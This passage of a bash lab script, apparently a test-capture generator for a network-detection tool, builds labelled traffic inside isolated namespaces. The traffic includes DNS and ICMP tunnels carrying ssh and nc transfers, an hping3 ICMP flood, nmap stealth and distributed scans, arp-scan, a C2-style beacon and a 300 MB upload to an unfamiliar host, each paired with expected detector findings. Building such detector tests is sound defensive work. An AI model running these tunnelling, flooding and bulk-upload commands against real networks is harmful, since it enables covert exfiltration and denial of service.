    '[{"name":"rawUdpToIodined","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.70 && udp.dstport==53"},{"name":"rawUdpFromIodined","filter":"ip.src==10.77.0.70 && ip.dst==10.77.0.10 && udp.srcport==53"},{"name":"iodineMagicFromClient","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.70 && udp.payload[0:3]==10:d1:9e"},{"name":"handshakeQueriesViaResolver","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.53 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"}]' \
    "The handshake through the resolver is a handful of queries (4 in the committed capture: too few for the name signals); the raw UDP to 10.77.0.70:53 does not parse as DNS, which is what is reported (evidence.basis non-dns-on-port-53). Its first packet parses as a DNS 'response' (QR set, opcode 3) from the client, so a reader that flips roles on any parse sees 10.77.0.70:53 as the originator; the finding must name the client. rate.spike is not asserted either way."
}

scenario_dns_tunnel_dns2tcp_key() { # dns2tcp with KEY queries through the resolver, an ssh download through it
  local name=dns-tunnel-dns2tcp-key
  mkdir -p "$WORK/d2t"
  cat >"$WORK/d2t/dns2tcpd.conf" <<E2
listen = $NET.70
port = 53
user = root
chroot = /tmp
domain = t.lab.example
resources = ssh:$NET.30:22
E2
  local srv=(dns2tcpd -F -d 1 -f "$WORK/d2t/dns2tcpd.conf")
  spawn tun timeout 100 "${srv[@]}"
  local SRV_PID=${PIDS[-1]}
  sleep 1
  "$PY" "$HELPER" mkfile "$WORK/d2t-down.bin" 60000 55
  capture_start "$name" 1600
  CMDS+=("ip netns exec $P-tun ${srv[*]}   # listen $NET.70:53 domain t.lab.example resources ssh:$NET.30:22")
  benign_bg 65 50 --page-loads 1 --min-pause 2 --max-pause 6
  sleep 3
  local cli=(dns2tcpc -z t.lab.example -r ssh -l 2222 -T KEY -d 1 "$NET.53")
  rec c1 "${cli[@]}"
  spawn c1 timeout 60 "${cli[@]}"
  local C_PID=${PIDS[-1]}
  sleep 2
  rec c1 "ssh -p 2222 -i id_lab root@127.0.0.1 'cat d2t-down.bin' > received   # 60000 bytes, seeded random, down through dns2tcp"
  nsx c1 timeout 45 ssh -p 2222 -i "$WORK/id_lab" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=15 \
    root@127.0.0.1 "cat $WORK/d2t-down.bin" >"$WORK/d2t.recv" 2>"$WORK/d2t.err" || log "ssh over dns2tcp exit $?: $(tail -n 2 "$WORK/d2t.err")"
  log "dns2tcp received $(stat -c %s "$WORK/d2t.recv") of 60000 bytes"
  kill "$C_PID" 2>/dev/null || true
  wait_benign
  capture_stop "$name"
  kill "$SRV_PID" 2>/dev/null || true
  wait "$SRV_PID" 2>/dev/null || true
  write_truth "$name" "dns2tcp 0.5.2 with KEY (25) queries (-T KEY): client 10.77.0.10 -> resolver dnsmasq 10.77.0.53 -> dns2tcpd 10.77.0.70 (authoritative for t.lab.example, resource ssh:10.77.0.30:22); an ssh session through it downloads 60000 bytes (dns2tcp polls with short names and carries the download in the answers); plus benign background from both clients. The bridge sees both legs: client->resolver and resolver->dns2tcpd." \
    "dns2tcpc 0.5.2 -z t.lab.example -r ssh -l 2222 -T KEY -d 1 10.77.0.53; dns2tcpd -F -d 1 (listen 10.77.0.70:53)" \
    '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.53","port":53,"domain":"t.lab.example","leg":"client to resolver"}]' \
    '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
    '[{"name":"keyQueries","filter":"dns.flags.response==0 && dns.qry.type==25"},{"name":"keyQueriesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.type==25"},{"name":"uniqueTunnelNamesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\"","distinct":"dns.qry.name"},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"}]' \
    "The forwarded leg 10.77.0.53 -> 10.77.0.70 carries the same queries and is expected to be reported too, but it is not asserted. rate.spike is not asserted either way."
}

scenario_icmp_tunnel() {
  local name=icmp-tunnel-ptunnel
  "$PY" "$HELPER" mkfile "$WORK/icmp-download.bin" 100000 98
  "$PY" "$HELPER" mkfile "$WORK/icmp-upload.bin" 30000 97
  nsx icmp sysctl -qw net.ipv4.icmp_echo_ignore_all=1   # the proxy answers echoes itself
  local srv=(ptunnel-ng -r"$NET.30" -R22 -v 1)
  spawn icmp timeout 90 "${srv[@]}"
  sleep 1
  capture_start "$name" 1600
  CMDS+=("ip netns exec $P-icmp sysctl -w net.ipv4.icmp_echo_ignore_all=1" "ip netns exec $P-icmp ${srv[*]}")
  benign_bg 71 45 --page-loads 1 --min-pause 2 --max-pause 6
  sleep 3
  local cli=(ptunnel-ng -p"$NET.71" -l2222 -r"$NET.30" -R22 -v 1)
  rec c1 "${cli[@]}"
  spawn c1 timeout 60 "${cli[@]}"
  local PT_PID=${PIDS[-1]}
  sleep 2
  local ssh=(ssh -p 2222 -i id_lab -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@127.0.0.1 "wc -c; cat icmp-download.bin; for i in \$(seq 15); do head -c 1500 icmp-download.bin; sleep 1; done")
  rec c1 "${ssh[*]} < icmp-upload.bin > received   # 30000 bytes up, 100000 bytes down, then 1500 bytes/s for 15 s, through the ICMP tunnel"
  nsx c1 timeout 40 ssh -p 2222 -i "$WORK/id_lab" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
    -o ConnectTimeout=10 root@127.0.0.1 "wc -c; cat $WORK/icmp-download.bin; for i in \$(seq 15); do head -c 1500 $WORK/icmp-download.bin; sleep 1; done" <"$WORK/icmp-upload.bin" >"$WORK/icmp-received.bin" 2>"$WORK/icmp-ssh.err" ||
    log "ssh over ptunnel exit $?: $(tail -n 2 "$WORK/icmp-ssh.err")"
  log "ptunnel: received $(stat -c %s "$WORK/icmp-received.bin") bytes (expected 100000 + 15 x 1500 + the wc line)"
  sleep 3
  kill "$PT_PID" 2>/dev/null || true
  wait_benign
  capture_stop "$name"
  write_truth "$name" "ptunnel-ng 1.41 ICMP tunnel: client 10.77.0.10 (ptunnel-ng -p, listening on 127.0.0.1:2222) -> proxy 10.77.0.71 over ICMP echo request/reply, proxy -> 10.77.0.30:22 over TCP; an ssh session through it uploads 30000 bytes and downloads 100000 bytes in a burst, then 1500 bytes/s for 15 s (a sustained low-rate tunnel); plus benign background (two clients, web/DNS/NTP)." \
    "ptunnel-ng 1.41 -p10.77.0.71 -l2222 -r10.77.0.30 -R22; OpenSSH client through 127.0.0.1:2222" \
    '[{"kind":"tunnel.icmp","src":"10.77.0.10","dst":"10.77.0.71","port":null}]' \
    '["scan.vertical","scan.horizontal","tunnel.dns"]' \
    '[{"name":"tunnelEchoRequests","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.71 && icmp.type==8"},{"name":"tunnelEchoReplies","filter":"ip.src==10.77.0.71 && ip.dst==10.77.0.10 && icmp.type==0"},{"name":"tunnelIcmpOver64Bytes","filter":"ip.addr==10.77.0.71 && icmp && data.len > 64"},{"name":"proxyTcpToSsh","filter":"ip.src==10.77.0.71 && ip.dst==10.77.0.30 && tcp.dstport==22"},{"name":"otherIcmpEcho","filter":"icmp.type==8 && !(ip.addr==10.77.0.71)"}]' \
    "The ICMP pair's packet rate may exceed 20 pps for a few seconds (see verified.rateRunsOver20pps); rate.spike is not asserted either way. The proxy leg 10.77.0.71 -> 10.77.0.30:22 is an ordinary ssh TCP connection."
}

# ICMP echo floods and fast pings: rate.spike must find a flood at the flooded
# host (ICMP flows are keyed at port 0, so the replies are not a spike at the
# flooder), a fast ping is not a flood, and a flood is not a tunnel.
scenario_icmp_flood() { # icmp-flood NAME NOREPLY(0|1): hping3 --icmp at the web host, answered or not
  local name=$1 noreply=$2 what
  ((noreply)) && nsx web sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  capture_start "$name" 128
  ((noreply)) && CMDS+=("ip netns exec $P-web sysctl -w net.ipv4.icmp_echo_ignore_all=1")
  benign_bg $((230 + noreply)) 35 --page-loads 1
  sleep 12
  local cmd=(hping3 -q --icmp -d 56 -i u2000 "$NET.20")
  rec scan timeout 10 "${cmd[@]}"
  nsx scan timeout 10 "${cmd[@]}" >"$WORK/hping3.txt" 2>&1 || true
  wait_benign
  capture_stop "$name"
  ((noreply)) && nsx web sysctl -qw net.ipv4.icmp_echo_ignore_all=0
  if ((noreply)); then what="the web host ignores echoes (icmp_echo_ignore_all=1), so only requests are on the wire"; else what="the web host answers every echo"; fi
  NOT_EXPECTED='[{"kind":"rate.spike","dst":"10.77.0.66","why":"the flooder receives the replies: not a flood at it"}]' \
    EXCLUSIVE=true write_truth "$name" "hping3 ICMP echo flood from the scanner 10.77.0.66 to the web host 10.77.0.20: 56-byte payloads (hping3 fills them with 'X'), one every 2 ms (~430/s measured) for 10 s, starting ~12 s in; $what. Benign background from two clients." \
    "hping3 3.0.0-alpha-2 --icmp -d 56 -i u2000" \
    '[{"kind":"rate.spike","src":"10.77.0.66","dst":"10.77.0.20","port":0,"proto":"icmp"}]' \
    '["scan.vertical","scan.horizontal","tunnel.dns","tunnel.icmp"]' \
    '[{"name":"floodRequests","filter":"ip.src==10.77.0.66 && ip.dst==10.77.0.20 && icmp.type==8"},{"name":"floodReplies","filter":"ip.src==10.77.0.20 && ip.dst==10.77.0.66 && icmp.type==0"},{"name":"floodPayloads","filter":"ip.src==10.77.0.66 && icmp.type==8","distinct":"data.data"}]' \
    "The flood is reported at the flooded host (10.77.0.20, port 0, icmp) from the flooder; the flooder, which receives the replies, is not a spike target. hping3 sends one payload over and over, so tunnel.icmp must not call it a tunnel, answered or not."
  tail -n 3 "$WORK/hping3.txt" >&2
}

scenario_benign_fast_ping() { # ping -i 0.03 and -i 0.01: fast, but request and reply alternate
  local name=benign-fast-ping
  capture_start "$name"
  benign_bg 232 40 --page-loads 1
  sleep 10
  local cmd=(ping -q -i 0.03 -c 330 "$NET.30")
  rec c2 "${cmd[@]}"
  nsx c2 timeout 30 "${cmd[@]}" >"$WORK/ping.txt" 2>&1 || true
  cmd=(ping -q -i 0.01 -c 800 "$NET.20")
  rec c1 "${cmd[@]}"
  nsx c1 timeout 30 "${cmd[@]}" >>"$WORK/ping.txt" 2>&1 || true
  wait_benign
  capture_stop "$name"
  write_truth "$name" "Fast pings (iputils, as root): 10.77.0.11 pings 10.77.0.30 330 times every 30 ms (~10 s, ~30/s), then 10.77.0.10 pings 10.77.0.20 800 times at 10-ms intervals (about 14 s, ~57/s, in the committed capture); 56-byte payloads (a timestamp and a fixed pattern), every request answered before the next. Benign background from two clients. No scan, tunnel or flood." \
    "iputils ping -i 0.03 -c 330; ping -i 0.01 -c 800" '[]' "$RULE_KINDS" \
    '[{"name":"pingRequests","filter":"icmp.type==8"},{"name":"pingReplies","filter":"icmp.type==0"}]' \
    "No rule detector should fire: one pinger to one host is one Zeek-style connection, well under a flood's rate, and ping alternates request and reply (no streamed requests), with ping's own payload."
  grep -E 'transmitted|rtt' "$WORK/ping.txt" >&2 || true
}

scenario_icmp_tunnel_icmptx() { # icmptx: IP over ICMP echo (a tun device each end), carrying an nc upload
  local name=icmp-tunnel-icmptx
  command -v icmptx >/dev/null || { log "installing: icmptx"; apt-get update -qq; DEBIAN_FRONTEND=noninteractive apt-get install -y -qq icmptx >/dev/null; }
  [[ -c /dev/net/tun ]] || { mkdir -p /dev/net; mknod /dev/net/tun c 10 200; }
  "$PY" "$HELPER" mkfile "$WORK/icmptx-upload.bin" 100000 96
  nsx icmp sysctl -qw net.ipv4.icmp_echo_ignore_all=1   # the server's icmptx answers, not its kernel
  spawn icmp timeout 70 icmptx -s "$NET.71"
  sleep 1
  nsx icmp ip addr add 10.0.3.1/24 dev tun0; nsx icmp ip link set tun0 mtu 1400 up
  spawn icmp timeout 70 sh -c "nc -l 10.0.3.1 5001 > $WORK/icmptx.received"
  capture_start "$name" 1600
  CMDS+=("ip netns exec $P-icmp sysctl -w net.ipv4.icmp_echo_ignore_all=1" "ip netns exec $P-icmp icmptx -s $NET.71   # tun0 10.0.3.1/24, mtu 1400" "ip netns exec $P-icmp nc -l 10.0.3.1 5001 > received")
  benign_bg 233 40 --page-loads 1 --min-pause 2 --max-pause 6
  sleep 3
  rec c1 "icmptx -c $NET.71   # tun0 10.0.3.2/24, mtu 1400"
  spawn c1 timeout 50 icmptx -c "$NET.71"
  local CLI_PID=${PIDS[-1]}
  sleep 1
  nsx c1 ip addr add 10.0.3.2/24 dev tun0; nsx c1 ip link set tun0 mtu 1400 up
  # No ping through the tunnel: the server's icmptx reads every ICMP message delivered to it, the tunnelled ping too, and sends it back in.
  rec c1 "nc -N -w 5 10.0.3.1 5001 < upload.bin   # 100000 bytes up through the tunnel"
  nsx c1 timeout 30 nc -N -w 5 10.0.3.1 5001 <"$WORK/icmptx-upload.bin" || log "nc over icmptx exit $?"
  sleep 2
  log "icmptx: received $(stat -c %s "$WORK/icmptx.received" 2>/dev/null || echo 0) of 100000 bytes"
  kill "$CLI_PID" 2>/dev/null || true
  wait_benign
  capture_stop "$name"
  nsx icmp sysctl -qw net.ipv4.icmp_echo_ignore_all=0
  write_truth "$name" "icmptx 0.2 IP-over-ICMP tunnel: client 10.77.0.10 (tun0 10.0.3.2) -> server 10.77.0.71 (tun0 10.0.3.1), the client's packets in echo requests and the server's in echo replies; a 100000-byte nc upload (TCP inside the tunnel, MTU 1400) goes through it; plus benign background (two clients, web/DNS/NTP)." \
    "icmptx 0.2 (Debian) -c 10.77.0.71 / -s 10.77.0.71; nc through the tunnel" \
    '[{"kind":"tunnel.icmp","src":"10.77.0.10","dst":"10.77.0.71","port":null}]' \
    '["scan.vertical","scan.horizontal","tunnel.dns"]' \
    '[{"name":"tunnelEchoRequests","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.71 && icmp.type==8"},{"name":"tunnelEchoReplies","filter":"ip.src==10.77.0.71 && ip.dst==10.77.0.10 && icmp.type==0"},{"name":"tunnelRequestPayloads","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.71 && icmp.type==8","distinct":"data.data"}]' \
    "The ICMP pair's packet rate may exceed 20 pps for a few seconds (see verified.rateRunsOver20pps); rate.spike is not asserted either way."
}

scenario_beacon() { # 20 minutes of real time (FLOWHOUND_LAB_BEACON_SEC overrides)
  local name=beacon dur=${FLOWHOUND_LAB_BEACON_SEC:-1200}
  capture_start "$name" 128
  local beacon=(lab-helper.py beacon "http://$NET.88:8000/index.html" --interval 30 --jitter 0.1 --duration "$dur" --seed 7)
  local monitor=(lab-helper.py beacon "http://$NET.20:8080/index.html" --interval 60 --jitter 0 --duration "$dur")
  rec c1 "$PY" "${beacon[@]}"
  spawn c1 timeout $((dur + 30)) "$PY" "$HELPER" "${beacon[@]:1}"
  local pids=("${PIDS[-1]}")
  rec c2 "$PY" "${monitor[@]}"
  spawn c2 timeout $((dur + 30)) "$PY" "$HELPER" "${monitor[@]:1}"
  pids+=("${PIDS[-1]}")
  # busy clients: both browse, resolve and query NTP (every 16 s) at random pauses all along
  local b1=(--seed 81 --duration "$dur" --web "$NET.20" --dns "$NET.53" --srv "$NET.30" --page-loads 2 --min-pause 8 --max-pause 40 --nxdomain)
  local b2=(--seed 82 --duration "$dur" --web "$NET.20" --dns "$NET.53" --srv "$NET.30" --page-loads 3 --min-pause 3 --max-pause 20)
  rec c1 "$PY" lab-helper.py benign "${b1[@]}"
  spawn c1 timeout $((dur + 30)) "$PY" "$HELPER" benign "${b1[@]}"
  pids+=("${PIDS[-1]}")
  rec c2 "$PY" lab-helper.py benign "${b2[@]}"
  spawn c2 timeout $((dur + 30)) "$PY" "$HELPER" benign "${b2[@]}"
  pids+=("${PIDS[-1]}")
  for p in "${pids[@]}"; do wait "$p" || true; done
  capture_stop "$name"
  NOT_EXPECTED='[{"kind":"c2.beacon","src":"10.77.0.11","why":"monitoring check every 60 s, allowed by beacon.rules.yaml"},{"kind":"c2.beacon","dst":"10.77.0.30","port":123,"why":"NTP every 16 s, allowed by beacon.rules.yaml"},{"kind":"c2.beacon","dst":"10.77.0.53","why":"a busy client resolving names"},{"kind":"c2.beacon","dst":"10.77.0.20","port":80,"why":"a busy client browsing"}]' \
    EXCLUSIVE=true MODEL_TARGET=false write_truth "$name" "A beacon: 10.77.0.10 fetches http://10.77.0.88:8000/index.html (a host nothing else talks to) every 30 s with +/-10% uniform jitter for $dur s. Hard negatives in the same capture: 10.77.0.11 polls 10.77.0.20:8080 every 60 s exactly (the network's own monitoring) and both clients query NTP on 10.77.0.30:123 every 16 s (both allowed in beacon.rules.yaml); both clients browse and resolve names at random pauses (busy clients)." \
    "python3 lab-helper.py beacon (urllib), interval 30 s, jitter 0.1, seed 7" \
    '[{"kind":"c2.beacon","src":"10.77.0.10","dst":"10.77.0.88","port":8000}]' \
    '["scan.vertical","scan.horizontal","scan.distributed","tunnel.dns","tunnel.icmp","rate.spike"]' \
    '[{"name":"beaconSyns","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.88 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"monitorSyns","filter":"ip.src==10.77.0.11 && ip.dst==10.77.0.20 && tcp.dstport==8080 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"ntpQueries","filter":"udp.dstport==123"},{"name":"dnsQueries","filter":"dns.flags.response==0"}]' \
    "Analyzed with --rules fixtures/lab/beacon.rules.yaml (see the truth's rules field) only the beacon is found; without it the monitoring check and NTP are periodic too and may be reported as c2.beacon, which is what the allow rules are for."
}

scenario_scan_stealth() { # nmap's scans without a SYN, one target each, 200 ports
  local name=scan-stealth
  capture_start "$name"
  benign_bg 91 55 --page-loads 1
  sleep 5
  local t
  for t in "-sF $NET.20" "-sN $NET.30" "-sX $NET.101" "-sA $NET.102" "-sM $NET.103" "-sW $NET.104"; do
    local cmd=(nmap ${t% *} -Pn -n -p 1-200 --max-rate 300 --max-retries 0 "${t#* }")
    rec scan "${cmd[@]}"
    nsx scan timeout 30 "${cmd[@]}" >>"$WORK/nmap-stealth.txt" 2>&1 || log "nmap exit $?"
  done
  wait_benign
  capture_stop "$name"
  EXCLUSIVE=true write_truth "$name" "nmap stealth scans without a SYN from the scanner 10.77.0.66, ports 1-200 of one target each: FIN (-sF) of 10.77.0.20, NULL (-sN) of 10.77.0.30, Xmas (-sX) of 10.77.0.101, ACK (-sA) of 10.77.0.102, Maimon (-sM) of 10.77.0.103, window (-sW) of 10.77.0.104; closed ports answer with RST, open ones (80 on .20, 22/9000 on .30) stay silent to FIN/NULL/Xmas; benign background from two clients." \
    "$(nmap --version | head -1) -sF/-sN/-sX/-sA/-sM/-sW -Pn -n -p 1-200 --max-rate 300 --max-retries 0" \
    '[{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.20","port":null,"probe":"fin"},{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.30","port":null,"probe":"null"},{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.101","port":null,"probe":"xmas"},{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.102","port":null,"probe":"ack"},{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.103","port":null,"probe":"maimon"},{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.104","port":null,"probe":"ack"}]' \
    '["tunnel.dns","tunnel.icmp","scan.distributed","c2.beacon"]' \
    '[{"name":"finProbes","filter":"ip.src==10.77.0.66 && tcp.flags==0x001"},{"name":"nullProbes","filter":"ip.src==10.77.0.66 && tcp.flags==0x000"},{"name":"xmasProbes","filter":"ip.src==10.77.0.66 && tcp.flags==0x029"},{"name":"ackProbes","filter":"ip.src==10.77.0.66 && tcp.flags==0x010"},{"name":"maimonProbes","filter":"ip.src==10.77.0.66 && tcp.flags==0x011"},{"name":"rstsToScanner","filter":"ip.dst==10.77.0.66 && tcp.flags.reset==1"}]' \
    "The window scan (-sW) sends the same ACK probes as -sA (it reads the RST's window), so its probe type is ack. scan.horizontal is not asserted either way: the scanner probes ports 1-200 of six hosts, so a port is probed on six hosts only."
  cat "$WORK/nmap-stealth.txt" >&2
}

scenario_scan_distributed() { # five sources, each under the per-source threshold, sweep one port together
  local name=scan-distributed
  capture_start "$name"
  benign_bg 93 45 --page-loads 1
  sleep 8
  local i pids=()
  for i in 1 2 3 4 5; do
    local lo=$((100 + (i - 1) * 8)) hi=$((100 + i * 8 - 1))
    local cmd=(nmap -sS -Pn -n --send-ip -p 23 --max-retries 1 --max-rate 20 "$NET.$lo-$hi")
    rec "bot$i" "${cmd[@]}"
    nsx "bot$i" timeout 40 "${cmd[@]}" >>"$WORK/nmap-dist.txt" 2>&1 &
    pids+=($!)
  done
  for p in "${pids[@]}"; do wait "$p" || true; done
  wait_benign
  capture_stop "$name"
  EXCLUSIVE=true write_truth "$name" "A distributed horizontal sweep of port 23: five sources 10.77.0.61-65 each scan 8 hosts of 10.77.0.100-139 (8 x 5 = 40 hosts; .131-.139 are dead), at the same time, each under the per-source threshold of 25 hosts; benign background from two clients." \
    "$(nmap --version | head -1) -sS -Pn -n --send-ip -p 23 --max-retries 1 --max-rate 20, from five namespaces at once" \
    '[{"kind":"scan.distributed","src":null,"dst":null,"port":23,"sources":["10.77.0.61","10.77.0.62","10.77.0.63","10.77.0.64","10.77.0.65"]}]' \
    '["scan.horizontal","scan.vertical","tunnel.dns","tunnel.icmp","c2.beacon"]' \
    '[{"name":"sweepSyns","filter":"tcp.dstport==23 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"sweepSources","filter":"tcp.dstport==23 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"ip.src"},{"name":"sweepHosts","filter":"tcp.dstport==23 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"ip.dst"}]'
  cat "$WORK/nmap-dist.txt" >&2
}

scenario_scan_arp() { # arp-scan of the /24 from the scanner; ordinary ARP of the clients around it
  local name=scan-arp
  capture_start "$name"
  benign_bg 95 40 --page-loads 1 --ping
  sleep 8
  local cmd=(arp-scan -I eth0 --retry=1 --interval=10 "$NET.0/24")
  rec scan "${cmd[@]}"
  nsx scan timeout 40 "${cmd[@]}" >"$WORK/arp-scan.txt" 2>&1 || log "arp-scan exit $?"
  # a host resolving a handful of neighbours (ordinary ARP): c2 pings five hosts once
  for h in 20 30 53 101 102; do nsx c2 ping -c 1 -W 1 "$NET.$h" >/dev/null 2>&1 || true; done
  rec c2 "ping -c 1 10.77.0.{20,30,53,101,102}   # ordinary ARP for five neighbours"
  wait_benign
  capture_stop "$name"
  EXCLUSIVE=true MODEL_TARGET=false write_truth "$name" "arp-scan of 10.77.0.0/24 (256 who-has, one retry) from the scanner 10.77.0.66 (02:77:00:00:00:42); the clients' ordinary ARP for the hosts they talk to (and c2 resolving five neighbours) must not count; benign background." \
    "$(arp-scan --version 2>&1 | head -1) -I eth0 --retry=1 --interval=10 10.77.0.0/24" \
    '[{"kind":"scan.arp","src":"10.77.0.66","dst":null,"port":null}]' \
    '["scan.vertical","scan.horizontal","scan.distributed","tunnel.dns","tunnel.icmp","c2.beacon"]' \
    '[{"name":"arpRequests","filter":"arp.opcode==1"},{"name":"scannerRequests","filter":"arp.opcode==1 && arp.src.proto_ipv4==10.77.0.66"},{"name":"scannerDistinctTargets","filter":"arp.opcode==1 && arp.src.proto_ipv4==10.77.0.66","distinct":"arp.dst.proto_ipv4"},{"name":"arpReplies","filter":"arp.opcode==2"}]' \
    "exclusive: no finding but the expected scan.arp from 10.77.0.66 (the clients' ordinary ARP gives none)."
  cat "$WORK/arp-scan.txt" >&2
}

offloads_off() { # real packet sizes on the bridge: no TSO/GSO/GRO coalescing on the lab's veths
  local n
  for n in c1 c2 srv; do nsx "$n" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1 || true; done
  for n in c1 c2 srv; do nsx sw ethtool -K "v-$n" tso off gso off gro off >/dev/null 2>&1 || true; done
}

scenario_policy_2012() { # a server on port 2012: an echo in small packets (not leakage) and one in full ones
  local name=policy-2012
  offloads_off
  spawn srv "$PY" "$HELPER" echo-server 2012
  sleep 1
  capture_start "$name"
  benign_bg 97 30 --page-loads 1 --transfer "$WORK/transfer-40k.bin"
  sleep 4
  local small=("$PY" lab-helper.py echo-client "$NET.30" 2012 85000 --mss 932)
  local full=("$PY" lab-helper.py echo-client "$NET.30" 2012 85000)
  rec c1 "${small[@]}"
  nsx c1 timeout 30 "$PY" "$HELPER" echo-client "$NET.30" 2012 85000 --mss 932 || log "echo-client exit $?"
  sleep 2
  rec c2 "${full[@]}"
  nsx c2 timeout 30 "$PY" "$HELPER" echo-client "$NET.30" 2012 85000 || log "echo-client exit $?"
  wait_benign
  capture_stop "$name"
  NOT_EXPECTED='[{"kind":"policy.data_leakage","dst":"10.77.0.10","why":"85 kB echoed from port 2012 in packets of at most 932 bytes: no packet carries 1024"}]' MODEL_TARGET=false write_truth "$name" "A TCP echo server on 10.77.0.30:2012. 10.77.0.10 sends 85000 bytes with an MSS of 932 (the echo comes back from port 2012 in packets of at most 932 bytes of payload: many bytes, no large packet); then 10.77.0.11 sends 85000 bytes with the default MSS (the echo comes back in packets of 1448 bytes: the 2012 rule). Offloads are off on the lab's veths, so the capture shows the packets as sent. Benign background with a 40 kB nc transfer (a large transfer, not on 2012)." \
    "python3 lab-helper.py echo-server 2012 / echo-client (socket, TCP_MAXSEG 932 for the first)" \
    '[{"kind":"policy.data_leakage","src":"10.77.0.30","dst":"10.77.0.11","port":2012}]' \
    '["scan.vertical","scan.horizontal","scan.distributed","tunnel.dns","tunnel.icmp","c2.beacon"]' \
    '[{"name":"from2012Packets","filter":"tcp.srcport==2012 && tcp.len>0"},{"name":"from2012To10Over932","filter":"tcp.srcport==2012 && ip.dst==10.77.0.10 && tcp.len>932"},{"name":"from2012To11Over1023","filter":"tcp.srcport==2012 && ip.dst==10.77.0.11 && tcp.len>=1024"}]' \
    "policy.risky_port (an established session to the watch-listed port 2012, low severity) is expected of both sessions and is not asserted."
}

scenario_midstream() { # sessions established before the capture: it picks them up in the middle
  local name=midstream
  spawn srv "$PY" "$HELPER" listen-many 7001 40
  sleep 1
  local cmd=("$PY" lab-helper.py hold-conns "$NET.30" 7001 40 --idle 12 --linger 4)
  rec c1 "${cmd[@]}   # started 6 s before the capture"
  spawn c1 timeout 60 "$PY" "$HELPER" hold-conns "$NET.30" 7001 40 --idle 12 --linger 4
  local hold=${PIDS[-1]}
  sleep 6
  capture_start "$name"
  benign_bg 99 30 --page-loads 1
  wait "$hold" || true
  wait_benign
  capture_stop "$name"
  write_truth "$name" "Hard negative for stealth-scan counting: 10.77.0.10 opened 40 connections to 10.77.0.30 ports 7001-7040 before the capture started; inside the capture each sends a line, gets the echo back and is closed (FIN exchange) — 40 connections to 40 ports of one host that the capture sees without their SYN (Zeek OTH with data, then teardown). Benign background." \
    "python3 lab-helper.py listen-many / hold-conns" '[]' \
    '["scan.vertical","scan.horizontal","scan.distributed","scan.arp","tunnel.dns","tunnel.icmp","rate.spike","c2.beacon"]' \
    '[{"name":"synsTo7001_7040","filter":"ip.dst==10.77.0.30 && tcp.dstport>=7001 && tcp.dstport<=7040 && tcp.flags.syn==1"},{"name":"finsTo7001_7040","filter":"ip.dst==10.77.0.30 && tcp.dstport>=7001 && tcp.dstport<=7040 && tcp.flags.fin==1"},{"name":"distinctPorts","filter":"ip.dst==10.77.0.30 && tcp.dstport>=7001 && tcp.dstport<=7040","distinct":"tcp.dstport"}]'
}

# ------------------------------------------------------------------ model scenarios
# No rule fires in these; the model trained on benign-1..3 should flag them
# (MODEL_EXPECTED names the attacker's windows: src, dst, port).

scenario_bulk_upload() { # 300 MB from client 10.77.0.10 to a host it never contacted (10.77.0.88:443)
  local name=bulk-upload
  spawn cc nc -lk "$NET.88" 443
  sleep 1
  capture_start "$name" 96
  benign_bg 61 60 --page-loads 1
  sleep 20
  rec c1 sh -c "head -c 300000000 /dev/zero | nc -N $NET.88 443"
  nsx c1 sh -c "head -c 300000000 /dev/zero | nc -N -w 5 $NET.88 443" || log "upload exit $?"
  wait_benign
  capture_stop "$name"
  MODEL_EXPECTED='[{"src":"10.77.0.10","dst":"10.77.0.88","port":443,"what":"bulk upload of 300 MB to a never-contacted host"}]' write_truth "$name" \
    "Bulk upload: client 10.77.0.10 sends 300 MB (nc) to 10.77.0.88:443, a host no client contacted before (the lab's benign captures have no 443 at all), ~20 s in; plus benign background. One connection: no scan, no flood, no tunnel. Snaplen 96 (headers only) keeps the capture small." \
    "nc -N (netcat-openbsd) from head -c 300000000 /dev/zero" '[]' "$RULE_KINDS" \
    '[{"name":"uploadSegments","filter":"ip.src==10.77.0.10 && ip.dst==10.77.0.88 && tcp.dstport==443 && tcp.len>0"}]' \
    "No rule detector should fire. baseline.deviation (new service tcp/443 carrying 300 MB, or bytes_out far past tcp/443's range) is expected from a model trained on benign-1..3."
}

scenario_new_listener() { # a new service on 10.77.0.88:4444 answering six established sessions
  local name=new-listener
  spawn cc "$PY" -m http.server 4444 --bind "$NET.88" --directory "$WORK/www"
  sleep 1.5
  capture_start "$name"
  benign_bg 71 60 --page-loads 1
  sleep 15
  local i
  rec c2 sh -c "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -N -w 3 $NET.88 4444  # six times, 3 s apart"
  for i in 1 2 3 4 5 6; do
    nsx c2 sh -c "printf 'GET / HTTP/1.0\r\n\r\n' | nc -N -w 3 $NET.88 4444 >/dev/null" || log "session $i exit $?"
    sleep 0.5
  done
  wait_benign
  capture_stop "$name"
